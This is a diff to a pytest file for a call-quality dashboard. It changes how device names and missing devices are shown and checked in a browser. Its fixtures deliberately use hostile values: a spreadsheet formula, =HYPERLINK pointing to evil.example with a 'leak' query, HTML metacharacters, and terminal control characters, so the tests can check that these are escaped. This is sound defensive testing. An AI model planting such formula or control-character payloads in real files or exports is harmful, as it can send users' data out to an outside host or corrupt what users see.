@@ -29,6 +29,7 @@ STATS_ONLY = DATA / "stats" / "app_upload_drop.ndjson"
 CALL_ID = '=HYPERLINK("https://evil.example/?leak","open")'
 ROUTE = "Speaker<&'\">"
 MODEL = "iPhone<&'\">"
+DEVICE = f"{MODEL} 22B83"  # the device's name: the sysdiagnose's model word and build
 CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
 # what must never reach a terminal: ESC, BEL, the one-byte CSI, a right-to-left override
 RAW_CONTROLS = ("\x1b", "\x07", "\x9b", "\u202e")
@@ -54,7 +55,7 @@ def store(tmp_path_factory):
     con = duckdb.connect(str(db))
     con.execute(
         "INSERT INTO calls SELECT 'GW-leg', NULL, start_ts, end_ts, 'explicit_id', true, NULL, 0, 1, NULL, NULL, "
-        "'no device stats', true FROM calls WHERE call_id = 'C-drop'"
+        "'no device stats', true, NULL, NULL, NULL, NULL FROM calls WHERE call_id = 'C-drop'"
     )
     con.close()
     return db
@@ -272,8 +273,9 @@ def test_dashboard_carries_values_as_stored(store, tmp_path):
     data = dashboard_data(con)
     col = {c: i for i, c in enumerate(data["columns"])}
     rows = {r[col["call_id"]]: r for r in data["calls"]}
-    assert rows[CALL_ID][col["route"]] == ROUTE and rows[CALL_ID][col["device"]] == MODEL
-    assert rows["GW-leg"][col["device"]] is None
+    # the sysdiagnose's name names the device (its model word is no model identifier); a call without one: unknown
+    assert rows[CALL_ID][col["route"]] == ROUTE and rows[CALL_ID][col["device"]] == DEVICE
+    assert rows["GW-leg"][col["device"]] == "unknown"
 
 
 def _browser(p):
@@ -304,11 +306,11 @@ def test_dashboard_in_a_browser_with_hostile_and_missing_values(store, tmp_path)
         assert page.locator("tr.call").count() == 1
         assert page.locator("tr.call td").first.inner_text() == CALL_ID
         page.select_option("#f_route", label="all")
-        page.select_option("#f_device", label=MODEL)
+        page.select_option("#f_device", label=DEVICE)
         assert page.locator("tr.call").count() == 1
-        page.select_option("#f_device", label="(none)")
-        assert page.locator("tr.call").count() == 1
-        page.click("tr.call")
+        page.select_option("#f_device", label="unknown")
+        assert page.locator("tr.call").count() == 2  # the gateway leg and the stats-only call: no device named
+        page.click("tr.call:has-text('GW-leg')")
         assert "Call GW-leg" in page.inner_text("#calltitle")
         page.select_option("#f_device", label="all")
         page.fill("#f_search", "C-drop")
